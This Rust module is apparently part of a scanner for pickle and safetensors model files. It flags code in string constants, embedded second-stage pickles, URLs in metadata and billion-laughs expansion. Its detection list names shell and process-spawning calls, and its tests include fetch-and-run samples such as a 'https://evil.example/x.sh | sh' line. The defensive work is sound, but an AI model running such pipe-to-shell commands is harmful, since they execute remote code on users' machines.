//! Payloads that only run later: policy findings on the values a pickle builds (`unsafe`, never
//! `dangerous`: nothing here runs when the file is loaded, but whatever consumes the values may
//! run them), and a name sweep over bytes a parser gave up on.
//!
//! * pickles embedded as raw bytes, base64 or hex text inside a pickle (a second stage);
//! * `exec`/`eval`/`os.system`-like code in string constants;
//! * code or URLs in safetensors `__metadata__`;
//! * memo/DUP expansion: a small value graph that expands enormously when copied, printed or
//!   serialised (billion laughs).

use crate::pickle::{self, Limits, Machine, Value};
use crate::policy;
use crate::scan::Ctx;
use crate::Level;
use memchr::memmem;
use std::sync::OnceLock;

/// Strings longer than this are not searched for code (they are data).
const MAX_TEXT: usize = 1 << 20;

/// Calls spelled in text: the name before a `(` (with a word boundary before the name).
const CALLS: &[(&str, &str)] = &[
    ("exec", "exec("),
    ("eval", "eval("),
    ("os.system", "os.system("),
    ("os.popen", "os.popen("),
    ("subprocess.Popen", "subprocess.Popen("),
    ("subprocess.run", "subprocess.run("),
    ("subprocess.call", "subprocess.call("),
    ("subprocess.check_output", "subprocess.check_output("),
    ("subprocess.getoutput", "subprocess.getoutput("),
    ("__import__", "__import__("),
    ("pty.spawn", "pty.spawn("),
];

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'.'
}

fn bounded_before(text: &[u8], at: usize) -> bool {
    at == 0 || !is_ident_byte(text[at - 1])
}

/// The first piece of code spelled in `text`: a call of `exec`, `eval`, `os.system`, ... (word
/// bounded: `model.eval()` is not code), an `import` of os/subprocess/socket, a shell invocation
/// (`/bin/sh -c`) or a pipe into a shell (`| sh`). One pass per anchor byte, whatever the length.
/// True when `text` holds one of `(`, `|`, `/`, space: eight bytes at a time (a byte equal to
/// `c` is a zero byte of `word ^ c...c`), which costs a fraction of a test per byte.
#[inline]
fn has_anchor(text: &[u8]) -> bool {
    const LO: u64 = 0x0101_0101_0101_0101;
    const HI: u64 = 0x8080_8080_8080_8080;
    #[inline(always)]
    fn zero_byte(v: u64) -> u64 {
        v.wrapping_sub(LO) & !v & HI
    }
    #[inline(always)]
    fn test(w: u64) -> bool {
        (zero_byte(w ^ (LO * b'(' as u64))
            | zero_byte(w ^ (LO * b'|' as u64))
            | zero_byte(w ^ (LO * b'/' as u64))
            | zero_byte(w ^ (LO * b' ' as u64)))
            != 0
    }
    let mut chunks = text.chunks_exact(8);
    for c in &mut chunks {
        let mut w = [0u8; 8];
        w.copy_from_slice(c);
        if test(u64::from_le_bytes(w)) {
            return true;
        }
    }
    // The tail, padded with zero bytes (none of the anchors).
    let r = chunks.remainder();
    let mut w = [0u8; 8];
    w[..r.len()].copy_from_slice(r);
    test(u64::from_le_bytes(w))
}

pub fn code_in_text(text: &[u8]) -> Option<&'static str> {
    if text.len() < 5 || text.len() > MAX_TEXT {
        return None;
    }
    // Most strings (parameter names, dtypes, devices) have none of the anchors: every needle
    // holds `(`, `|`, `/` or the space of `import `. Short strings (the keys of a state_dict)
    // are read in one scalar pass, which costs less than starting the vector searchers.
    if text.len() <= 64 && !has_anchor(text) {
        return None;
    }
    static IMPORT: OnceLock<memmem::Finder<'static>> = OnceLock::new();
    static BIN: OnceLock<memmem::Finder<'static>> = OnceLock::new();
    let import = IMPORT.get_or_init(|| memmem::Finder::new(b"import "));
    let bin = BIN.get_or_init(|| memmem::Finder::new(b"/bin/"));
    if text.len() > 64
        && memchr::memchr3(b'(', b'|', b'/', text).is_none()
        && import.find(text).is_none()
    {
        return None;
    }
    for i in memchr::memchr_iter(b'(', text) {
        let before = &text[..i];
        for (name, label) in CALLS {
            if before.ends_with(name.as_bytes()) && bounded_before(text, i - name.len()) {
                return Some(label);
            }
        }
    }
    for i in import.find_iter(text) {
        if !bounded_before(text, i) {
            continue;
        }
        let rest = &text[i + 7..];
        for (m, label) in [
            (&b"os"[..], "import os"),
            (b"subprocess", "import subprocess"),
            (b"socket", "import socket"),
        ] {
            if rest.starts_with(m)
                && rest
                    .get(m.len())
                    .is_none_or(|&c| !is_ident_byte(c) || c == b'.')
            {
                return Some(label);
            }
        }
    }
    for i in bin.find_iter(text) {
        let rest = &text[i + 5..];
        if rest.starts_with(b"sh -") || rest.starts_with(b"bash -") {
            return Some("/bin/sh -c");
        }
    }
    for i in memchr::memchr_iter(b'|', text) {
        let mut rest = &text[i + 1..];
        if rest.first() == Some(&b' ') {
            rest = &rest[1..];
        }
        for sh in [&b"sh"[..], b"bash"] {
            if rest.starts_with(sh) && rest.get(sh.len()).is_none_or(|&c| !is_ident_byte(c)) {
                return Some("| sh");
            }
        }
    }
    None
}

/// Findings for one safetensors `__metadata__` entry: `(code, what)`.
pub fn metadata_findings(key: &str, value: &str) -> Vec<(&'static str, String)> {
    let mut out = Vec::new();
    for t in [key, value] {
        if let Some(n) = code_in_text(t.as_bytes()) {
            out.push(("safetensors-metadata-code", format!("holds code (`{n}`)")));
            break;
        }
    }
    let lower = value.to_ascii_lowercase();
    if let Some(i) = ["http://", "https://", "ftp://", "file://"]
        .iter()
        .filter_map(|p| lower.find(p))
        .min()
    {
        let url: String = value[i..]
            .chars()
            .take_while(|c| !c.is_whitespace() && *c != '"' && *c != '\'')
            .take(80)
            .collect();
        out.push(("safetensors-metadata-url", format!("holds a URL ({url})")));
    }
    if let Some(p) = decode_pickle_text(value.as_bytes()) {
        if looks_like_complete_pickle(&p) {
            out.push((
                "safetensors-metadata-pickle",
                "holds an encoded pickle".to_string(),
            ));
        }
    }
    out
}

fn b64_val(c: u8) -> Option<u32> {
    Some(match c {
        b'A'..=b'Z' => (c - b'A') as u32,
        b'a'..=b'z' => (c - b'a' + 26) as u32,
        b'0'..=b'9' => (c - b'0' + 52) as u32,
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    })
}

fn base64_decode(t: &[u8]) -> Option<Vec<u8>> {
    let t: Vec<u8> = t
        .iter()
        .copied()
        .filter(|c| !c.is_ascii_whitespace())
        .collect();
    let t = {
        let mut e = t.len();
        while e > 0 && t[e - 1] == b'=' {
            e -= 1;
        }
        &t[..e]
    };
    let mut out = Vec::with_capacity(t.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0;
    for &c in t {
        acc = (acc << 6) | b64_val(c)?;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

fn hex_decode(t: &[u8]) -> Option<Vec<u8>> {
    let t = t.trim_ascii();
    if !t.len().is_multiple_of(2) {
        return None;
    }
    let v = |c: u8| (c as char).to_digit(16);
    t.chunks(2)
        .map(|p| Some((v(p[0])? * 16 + v(p[1])?) as u8))
        .collect()
}

/// Cheap test: could this be a base64 or hex spelling of a binary pickle?
fn maybe_encoded_pickle(t: &[u8]) -> bool {
    let t = t.trim_ascii_start();
    t.len() >= 12
        && (t.starts_with(b"gA")
            || (t[..3].eq_ignore_ascii_case(b"800") && (b'1'..=b'5').contains(&t[3])))
}

/// A binary pickle spelled as base64 or hex text (`gAJ…`/`gASV…`, `8002…`/`8004…`).
fn decode_pickle_text(t: &[u8]) -> Option<Vec<u8>> {
    let t = t.trim_ascii();
    if t.len() < 12 || t.len() > MAX_TEXT {
        return None;
    }
    if t.starts_with(b"gA") {
        return base64_decode(t).filter(|d| pickle::looks_like_pickle(d));
    }
    if t.len() >= 6 && t[..3].eq_ignore_ascii_case(b"800") && (b'1'..=b'5').contains(&t[3]) {
        return hex_decode(t).filter(|d| pickle::looks_like_pickle(d));
    }
    None
}

fn looks_like_complete_pickle(d: &[u8]) -> bool {
    let mut m = Machine::new(d, 0, small_limits());
    let out = m.run();
    out.error.is_none() || !m.globals.is_empty()
}

fn small_limits() -> Limits {
    Limits {
        max_ops: 1_000_000,
        max_nodes: 1_000_000,
        ..Limits::scan()
    }
}

/// Whether a str (`is_text`) or bytes value may hold a pickle: raw, as latin-1 text, or
/// spelled as base64 or hex.
fn looks_like_payload(bytes: &[u8], is_text: bool) -> bool {
    (!is_text && pickle::looks_like_pickle(bytes))
        || (is_text && bytes.starts_with("\u{80}".as_bytes()))
        || maybe_encoded_pickle(bytes)
}

/// Whether [`check_values`] looks further at this str (`is_text`) or bytes value: one that
/// may hold a pickle or spells code. The pickle machine's first pass
/// ([`pickle::fast`]) leaves every pickle with such a value to the full machine.
pub(crate) fn text_wants_check(bytes: &[u8], is_text: bool) -> bool {
    bytes.len() >= 5 && (looks_like_payload(bytes, is_text) || code_in_text(bytes).is_some())
}

/// Policy checks over the values one pickle run built.
pub(crate) fn check_values(ctx: &mut Ctx, m: &Machine, member: &str) {
    let nested: Vec<&[u8]> = m.nested.iter().map(|n| n.data.as_slice()).collect();
    let mut embedded = 0;
    let mut code = 0;
    // Source text stored with a legacy whole-model save (`('module', cls, source)`) is compared
    // with the class's current source by torch, never run.
    let mut skip: Option<rustc_hash::FxHashSet<u32>> = None;
    let persistent_items = |m: &Machine| {
        let mut set = rustc_hash::FxHashSet::default();
        for v in &m.nodes {
            if let Value::Persistent(pid) = v {
                if let Value::Tuple(items) = m.get(*pid) {
                    set.extend(items.iter().copied());
                }
            }
        }
        set
    };
    for &id in &m.text_nodes {
        let (bytes, is_text): (&[u8], bool) = match m.get(id) {
            Value::Str(s) => (s.as_bytes(), true),
            Value::Bytes(b) => (b, false),
            _ => continue,
        };
        if bytes.len() < 5 {
            continue;
        }
        // Only strings that look like a payload are checked against the persistent ids.
        let candidate = (embedded < 16 && looks_like_payload(bytes, is_text))
            || (code < 16 && code_in_text(bytes).is_some());
        if !candidate {
            continue;
        }
        if skip
            .get_or_insert_with(|| persistent_items(m))
            .contains(&id)
        {
            continue;
        }
        // A pickle inside the pickle: raw, base64 or hex.
        if embedded < 16 {
            let raw = if !is_text && pickle::looks_like_pickle(bytes) {
                Some((bytes.to_vec(), "raw bytes"))
            } else if is_text
                && bytes.starts_with("\u{80}".as_bytes())
                && pickle::looks_like_pickle(&latin1_bytes(bytes))
            {
                Some((latin1_bytes(bytes), "a latin-1 string"))
            } else {
                decode_pickle_text(bytes).map(|d| {
                    let how = if d.len() * 2 == bytes.trim_ascii().len() {
                        "hex text"
                    } else {
                        "base64 text"
                    };
                    (d, how)
                })
            };
            if let Some((data, how)) = raw {
                if !nested.contains(&data.as_slice()) {
                    let mut sub = Machine::new(&data, 0, small_limits());
                    let out = sub.run();
                    if out.error.is_none() || !sub.globals.is_empty() {
                        embedded += 1;
                        report_embedded(ctx, &sub, how, data.len(), member);
                        continue;
                    }
                }
            }
        }
        if code < 16 {
            if let Some(n) = code_in_text(bytes) {
                code += 1;
                let preview: String = String::from_utf8_lossy(&bytes[..bytes.len().min(60)])
                    .chars()
                    .map(|c| if c.is_control() { ' ' } else { c })
                    .collect();
                ctx.add(
                    Level::Unsafe,
                    "code-in-string",
                    format!("a string constant spells code (`{n}` in {preview:?}): loading does not run it, but code that evaluates this value would"),
                    Some(member),
                    None,
                    None,
                    None,
                );
            }
        }
    }
    // A graph that expands 10^7-fold needs at least ~24 extra references to containers
    // (fan-out 2 over 24 levels; wider fan-outs need more).
    if m.container_refs >= 20 {
        check_expansion(ctx, m, member);
    }
}

fn latin1_bytes(s: &[u8]) -> Vec<u8> {
    // Str values of BINSTRING/SHORT_BINSTRING hold latin-1 text decoded to chars.
    match std::str::from_utf8(s) {
        Ok(t) if t.chars().all(|c| (c as u32) < 256) => t.chars().map(|c| c as u8).collect(),
        _ => Vec::new(),
    }
}

fn report_embedded(ctx: &mut Ctx, sub: &Machine, how: &str, len: usize, member: &str) {
    let mut names: Vec<String> = Vec::new();
    let mut worst = Level::Info;
    for g in &sub.globals {
        let q = g.qualified();
        let j = policy::judge(&g.module, &g.name);
        worst = worst.max(j.level);
        if !names.contains(&q) && names.len() < 8 {
            names.push(q);
        }
    }
    let what = if names.is_empty() {
        "imports nothing".to_string()
    } else if worst == Level::Dangerous {
        format!(
            "imports {} (dangerous if it is ever unpickled)",
            names.join(", ")
        )
    } else {
        format!("imports {}", names.join(", "))
    };
    ctx.add(
        Level::Unsafe,
        "embedded-pickle",
        format!("a {len}-byte pickle is embedded as {how}: it runs only if something unpickles it later; it {what}"),
        Some(member),
        None,
        None,
        names.first().cloned(),
    );
}

/// Memo/DUP expansion: how many objects the value graph holds once shared references are
/// copied (what `copy.deepcopy`, `repr`, JSON export or a naive walker does).
fn check_expansion(ctx: &mut Ctx, m: &Machine, member: &str) {
    let n = m.nodes.len();
    if n == 0 || n > 4_000_000 {
        return;
    }
    const CAP: u64 = 1 << 62;
    // 0 = unvisited, 1 = on the stack, 2 = done
    let mut state = vec![0u8; n];
    let mut size = vec![0u64; n];
    let mut worst = 0u64;
    // First pass, in id order: leaves (numbers, strings, names: most nodes), and nodes whose
    // children are all sized already (a tuple, a call or a persistent id is made after its
    // children). These nodes reach no cycle, so their size does not depend on the order of any
    // walk. Everything else (a dict or list filled after it was made, an object given its
    // state later, cycles, dangling ids) is left to the walk below.
    for root in 0..n {
        let v = &m.nodes[root];
        let mut s = 1u64;
        let mut direct = true;
        for_each_child(v, |c| {
            if (c as usize) < n && state[c as usize] == 2 {
                s = s.saturating_add(size[c as usize]).min(CAP);
            } else {
                direct = false;
            }
        });
        if direct {
            state[root] = 2;
            size[root] = s;
            worst = worst.max(s);
        }
    }
    // Second pass: a depth-first walk from every node not sized yet, in id order; a child on the
    // walk's own stack (a cycle) or a dangling id counts 1.
    let mut stack: Vec<(u32, bool)> = Vec::new();
    for root in 0..n as u32 {
        if state[root as usize] != 0 {
            continue;
        }
        stack.push((root, false));
        while let Some((id, expanded)) = stack.pop() {
            let i = id as usize;
            if expanded {
                let mut s = 1u64;
                for_each_child(m.get(id), |c| {
                    let cs = if (c as usize) < n && state[c as usize] == 2 {
                        size[c as usize]
                    } else {
                        1 // a cycle or a dangling id
                    };
                    s = s.saturating_add(cs).min(CAP);
                });
                size[i] = s;
                state[i] = 2;
                worst = worst.max(s);
                continue;
            }
            if state[i] != 0 {
                continue;
            }
            state[i] = 1;
            stack.push((id, true));
            for_each_child(m.get(id), |c| {
                if (c as usize) < n && state[c as usize] == 0 {
                    stack.push((c, false));
                }
            });
        }
    }
    if worst >= 10_000_000 && worst >= 1000 * n as u64 {
        ctx.add(
            Level::Unsafe,
            "memo-expansion",
            format!(
                "{} memo references and {} DUPs make {n} values expand to {} objects when copied, printed or serialised (a billion-laughs pattern)",
                m.memo_gets,
                m.dups,
                if worst >= CAP { ">4.6e18".to_string() } else { worst.to_string() }
            ),
            Some(member),
            None,
            None,
            None,
        );
    }
}

/// The values a node refers to, in order.
fn for_each_child(v: &Value, mut f: impl FnMut(u32)) {
    match v {
        Value::Tuple(v) | Value::List(v) | Value::Set(v) => v.iter().for_each(|&c| f(c)),
        Value::Dict(v) => {
            for &(k, x) in v {
                f(k);
                f(x);
            }
        }
        Value::Object(o) => {
            f(o.args);
            if let Some(k) = o.kwargs {
                f(k);
            }
            o.state.iter().for_each(|&c| f(c));
            o.items.iter().for_each(|&c| f(c));
            for &(k, x) in &o.dict_items {
                f(k);
                f(x);
            }
        }
        Value::Persistent(p) => f(*p),
        _ => {}
    }
}

fn dotted_ident(s: &[u8]) -> bool {
    !s.is_empty()
        && s.len() <= 200
        && !s[0].is_ascii_digit()
        && s[0] != b'.'
        && s.iter().all(|&b| is_ident_byte(b))
}

/// Imports spelled in raw bytes (`GLOBAL`/`INST` text lines, or two short strings followed by
/// `STACK_GLOBAL`): `(offset, module, name, opcode)`.
pub fn sweep_names(b: &[u8]) -> Vec<(usize, String, String, &'static str)> {
    let mut out = Vec::new();
    let s = |x: &[u8]| String::from_utf8_lossy(x).into_owned();
    // GLOBAL / INST: c<module>\n<name>\n
    for i in memchr::memchr2_iter(b'c', b'i', b) {
        if out.len() >= 64 {
            break;
        }
        let rest = &b[i + 1..];
        let Some(e1) = memchr::memchr(b'\n', &rest[..rest.len().min(201)]) else {
            continue;
        };
        let module = &rest[..e1];
        if !dotted_ident(module) {
            continue;
        }
        let rest2 = &rest[e1 + 1..];
        let Some(e2) = memchr::memchr(b'\n', &rest2[..rest2.len().min(201)]) else {
            continue;
        };
        let name = &rest2[..e2];
        if dotted_ident(name) {
            let op = if b[i] == b'c' { "GLOBAL" } else { "INST" };
            out.push((i, s(module), s(name), op));
        }
    }
    // STACK_GLOBAL: SHORT_BINUNICODE module [memo] SHORT_BINUNICODE name [memo] STACK_GLOBAL
    let string_at = |p: usize| -> Option<(&[u8], usize)> {
        match *b.get(p)? {
            0x8c | b'U' => {
                let l = *b.get(p + 1)? as usize;
                Some((b.get(p + 2..p + 2 + l)?, p + 2 + l))
            }
            b'X' => {
                let l = u32::from_le_bytes(b.get(p + 1..p + 5)?.try_into().ok()?) as usize;
                if l > 200 {
                    return None;
                }
                Some((b.get(p + 5..p + 5 + l)?, p + 5 + l))
            }
            _ => None,
        }
    };
    let skip_memo = |p: usize| -> usize {
        match b.get(p) {
            Some(0x94) => p + 1,
            Some(b'q') => p + 2,
            Some(b'r') => p + 5,
            _ => p,
        }
    };
    for i in memchr::memchr3_iter(0x8c, b'U', b'X', b) {
        if out.len() >= 64 {
            break;
        }
        let Some((module, p)) = string_at(i) else {
            continue;
        };
        if !dotted_ident(module) {
            continue;
        }
        let p = skip_memo(p);
        let Some((name, q)) = string_at(p) else {
            continue;
        };
        if !dotted_ident(name) {
            continue;
        }
        let q = skip_memo(q);
        if b.get(q) == Some(&0x93) {
            out.push((i, s(module), s(name), "STACK_GLOBAL"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn has_anchor_matches_a_byte_scan() {
        // Bytes next to the anchors (and with the high bit set) as well as the anchors.
        let plain = b"ab.\x00\x01\x21\x27\x29\x2e\x30\x7b\x7d\x1f\x80\xa0\xa8\xaf\xfc\xff";
        let anchors = b"(|/ ";
        let mut state = 0x2545_f491_4f6c_dd1du64;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        for len in 0..80usize {
            for round in 0..300 {
                let mut text: Vec<u8> = (0..len)
                    .map(|_| plain[(next() % plain.len() as u64) as usize])
                    .collect();
                if len > 0 && round % 2 == 0 {
                    let at = (next() % len as u64) as usize;
                    text[at] = anchors[(next() % 4) as usize];
                }
                let want = text.iter().any(|&b| matches!(b, b'(' | b'|' | b'/' | b' '));
                assert_eq!(has_anchor(&text), want, "{text:?}");
            }
        }
    }

    #[test]
    fn code_needles_respect_word_boundaries() {
        assert_eq!(code_in_text(b"eval('1+1')"), Some("eval("));
        assert_eq!(code_in_text(b"x = os.system('id')"), Some("os.system("));
        assert_eq!(code_in_text(b"model.eval() then train"), None);
        assert_eq!(code_in_text(b"evaluation(split)"), None);
        assert_eq!(
            code_in_text(b"encoder.layers.0.self_attn.q_proj.weight"),
            None
        );
        assert_eq!(code_in_text(b"curl http://x | sh"), Some("| sh"));
        assert_eq!(code_in_text(b"a || shape"), None);
        assert_eq!(code_in_text(b"import os\nos.remove(p)"), Some("import os"));
        assert_eq!(code_in_text(b"import osmnx as ox"), None);
        assert_eq!(code_in_text(b"sh -c: /bin/sh -c 'id'"), Some("/bin/sh -c"));
    }

    #[test]
    fn encoded_pickles_decode() {
        let p = b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00N.";
        let hex: String = p.iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(decode_pickle_text(hex.as_bytes()).unwrap(), p);
        // base64 of the same bytes
        let b64 = b"gASVBQAAAAAAAABOLg==";
        assert_eq!(decode_pickle_text(b64).unwrap(), p);
        assert!(decode_pickle_text(b"gAAAAABhbGxvdw").is_none());
    }

    #[test]
    fn sweep_finds_text_and_stack_globals() {
        let mut b = b"\x00\x00cnt\nsystem\n".to_vec();
        b.extend_from_slice(b"\x8c\x05posix\x94\x8c\x06system\x94\x93");
        let found = sweep_names(&b);
        assert!(found
            .iter()
            .any(|(_, m, n, o)| m == "nt" && n == "system" && *o == "GLOBAL"));
        assert!(found
            .iter()
            .any(|(_, m, n, o)| m == "posix" && n == "system" && *o == "STACK_GLOBAL"));
        assert!(sweep_names(b"class Foo:\n    x = 1\n").is_empty());
    }

    #[test]
    fn metadata_urls_and_code() {
        assert!(metadata_findings("format", "pt").is_empty());
        let f = metadata_findings("note", "see https://evil.example/x.sh | sh");
        let codes: Vec<_> = f.iter().map(|x| x.0).collect();
        assert!(codes.contains(&"safetensors-metadata-url"));
        assert!(codes.contains(&"safetensors-metadata-code"));
    }
}
